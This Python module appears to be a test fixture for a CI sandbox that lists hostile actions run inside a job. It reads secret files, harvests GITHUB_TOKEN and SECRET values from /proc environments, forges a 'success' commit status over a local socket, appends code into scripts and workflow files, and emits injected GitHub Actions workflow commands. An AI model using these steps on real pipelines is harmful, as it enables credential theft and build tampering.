"""What hostile code tries wherever it gets to run. ``MARKER``, ``SECRET``, ``FOLDER`` and ``PORT`` stand above it."""
# ruff: noqa: F821, BLE001

import contextlib
import os
import socket
import subprocess
from pathlib import Path

COMMANDS = """
::error file=a,line=1::OWNED
::set-output name=tasks::OWNED
::add-mask::commons
::stop-commands::OWNED
::set-env name=OWNED::1
::add-path::/OWNED
##[error]OWNED
"""


def _write():
    Path(MARKER).write_text("written from Python", encoding="utf-8")


def _shell():
    Path(MARKER).parent.mkdir(parents=True, exist_ok=True)
    subprocess.run(["/bin/sh", "-c", f"touch {MARKER}"], timeout=5, check=False)


def _read():
    return Path(SECRET).read_text(encoding="utf-8")


def _environments():
    found = [os.environ.get("PLANTED_SECRET", ""), os.environ.get("GITHUB_TOKEN", "")]
    for path in Path("/proc").glob("[0-9]*/environ"):
        with contextlib.suppress(OSError):
            text = path.read_bytes().decode("utf-8", "replace")
            found += [part for part in text.split("\0") if "SECRET" in part]
    return " ".join(found)


def _connect():
    with socket.create_connection(("127.0.0.1", PORT), timeout=2) as door:
        body = '{"state": "success", "context": "eval-commons/check", "description": "OWNED"}'
        door.sendall(f"POST /repos/pool/commons/statuses/{'a' * 40} HTTP/1.1\r\nHost: a\r\n"
                     f"Content-Length: {len(body)}\r\n\r\n{body}".encode())
        return door.recv(100).decode()


def _poison():
    """Write into the job's program, its scripts, and the files by which it takes commands, as far as they are seen."""
    for path in Path(FOLDER).rglob("*"):
        if path.suffix in {".py", ".sh", ".yml"} or "/workflow/" in str(path):
            with contextlib.suppress(OSError), path.open("a", encoding="utf-8") as file:
                file.write(f"\nopen({MARKER!r}, 'w').write('poisoned')\n")


def _speak():
    for channel in (1, 2):
        os.write(channel, COMMANDS.encode())


def everything():
    """Try all of it; what was found, as text."""
    found = []
    for attempt in (_write, _shell, _read, _environments, _connect, _poison, _speak):
        try:
            found.append(str(attempt() or ""))
        except BaseException as error:
            found.append(type(error).__name__)
    return " ".join(found)
